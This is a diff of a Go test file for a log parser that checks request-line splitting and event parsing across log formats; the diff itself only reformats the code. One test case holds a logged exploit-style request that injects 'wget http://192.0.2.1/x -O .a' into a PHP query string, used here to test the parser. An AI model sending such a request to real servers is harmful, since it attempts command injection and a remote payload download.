@@ -12,10 +12,12 @@ func TestRequestIsAllOfIt(t *testing.T) {
 		"GET /files/My Report.pdf HTTP/1.1": {"GET", "/files/My Report.pdf"},
 		"GET  /files/a HTTP/1.1":            {"GET", "/files/a"},
 		"GET /a b":                          {"GET", "/a b"},
-		"GET /i.php?s=/x&v[]= 'wget http://192.0.2.1/x -O .a' HTTP/1.1": {"GET", "/i.php?s=/x&v[]= 'wget http://192.0.2.1/x -O .a'"},
-		"POST /a HTTP/1.1 HTTP/2.0":                                     {"POST", "/a HTTP/1.1"},
-		"GET /HTTP/1.1 x":                                               {"GET", "/HTTP/1.1 x"},
-		"/index.html":                                                   {"GET", "/index.html"},
+		"GET /i.php?s=/x&v[]= 'wget http://192.0.2.1/x -O .a' HTTP/1.1": {
+			"GET", "/i.php?s=/x&v[]= 'wget http://192.0.2.1/x -O .a'",
+		},
+		"POST /a HTTP/1.1 HTTP/2.0": {"POST", "/a HTTP/1.1"},
+		"GET /HTTP/1.1 x":           {"GET", "/HTTP/1.1 x"},
+		"/index.html":               {"GET", "/index.html"},
 	}
 	for request, want := range requests {
 		for format, line := range map[string]string{
@@ -39,7 +41,9 @@ func TestRequestIsAllOfIt(t *testing.T) {
 
 // TestRequestsWithoutMethod count as GET where there is a path and a status, in every format.
 func TestRequestsWithoutMethod(t *testing.T) {
-	want := said{at: "2024-06-03T10:00:00Z", key: "h", client: "h", action: "GET", target: "/x.png", status: 404, bytes: -1}
+	want := said{
+		at: "2024-06-03T10:00:00Z", key: "h", client: "h", action: "GET", target: "/x.png", status: 404, bytes: -1,
+	}
 	for format, line := range map[string]string{
 		"json":                              `{"ts":1717408800,"ip":"h","path":"/x.png","status":"404"}`,
 		"logfmt":                            `ts=1717408800 ip=h path=/x.png status=404`,
@@ -54,7 +58,10 @@ func TestRequestsWithoutMethod(t *testing.T) {
 	p := NewParser(mustName(t, "json"), Options{})
 	want.status, want.action = 200, "POST"
 	expectEvent(t, p, want, `{"ts":1717408800,"ip":"h","path":"/x.png","status":200,"http":{"request":{"method":"post"}}}`)
-	click := said{at: "2024-06-03T10:00:00Z", key: "h", client: "h", action: "pay", target: "/x", item: "/x", menu: "pay", status: 200, bytes: -1, click: true}
+	click := said{
+		at: "2024-06-03T10:00:00Z", key: "h", client: "h", action: "pay", target: "/x", item: "/x", menu: "pay",
+		status: 200, bytes: -1, click: true,
+	}
 	expectEvent(t, p, click, `{"ts":1717408800,"ip":"h","event":"pay","path":"/x","status":200,"method":"card"}`)
 	click.status = 0
 	expectEvent(t, p, click, `{"ts":1717408800,"ip":"h","event":"pay","path":"/x"}`)
